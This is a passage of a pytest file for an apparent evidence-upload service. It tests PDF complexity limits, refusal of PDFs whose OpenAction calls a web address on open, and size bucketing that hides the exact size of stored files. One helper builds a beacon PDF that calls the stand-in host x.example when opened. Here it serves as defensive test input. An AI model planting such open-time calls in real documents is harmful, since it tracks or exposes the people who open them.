    # A parse that needs more than the cap is killed, and the file refused.
    monkeypatch.setattr(pdf_scan, "MEMORY_LIMIT_BYTES", 16 * 1024 * 1024)
    assert pdf_scan.check(PDF, seconds=5) == "too_complex"
    with pytest.raises(CaseError) as error:
        evidence.upload(people.officer, case, evidence.UploadData(
            content=PDF, filename="x.pdf", confirmed_no_abuse=True))
    assert error.value.field == "file" and attachments(case) == []


def _open_action_uri(pdf):
    import pikepdf

    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI,
                                             URI=pikepdf.String("https://x.example/opened"))


def test_a_web_address_called_on_open_is_refused(people, make_case):
    case = make_case("support", harm_categories=SAFE)
    with pytest.raises(CaseError):
        evidence.upload(people.officer, case, evidence.UploadData(
            content=make_pdf(_open_action_uri), filename="x.pdf", confirmed_no_abuse=True))
    assert attachments(case) == []


@pytest.mark.parametrize("size", [1, 1000, 1001, 65_000, 65_537, 200_000])
def test_stored_sizes_are_rounded_so_a_known_file_cannot_be_confirmed(people, make_case, size):
    case = make_case("support", harm_categories=SAFE)
    content = b"a" * size
    row = evidence.upload(people.officer, case, evidence.UploadData(
        content=content, filename="x.txt", confirmed_no_abuse=True))
    db.session.commit()
    raw = db.session.execute(text("SELECT content, size_bytes FROM case_attachments")).one()
    assert row.size_bytes % sniffing.SIZE_BUCKET == 0 and raw.size_bytes >= size
    # The sealed value's length says no more than the bucket does.
    assert len(bytes(raw.content)) - raw.size_bytes < 100
    assert evidence.download(people.officer, case, row.id).content == content
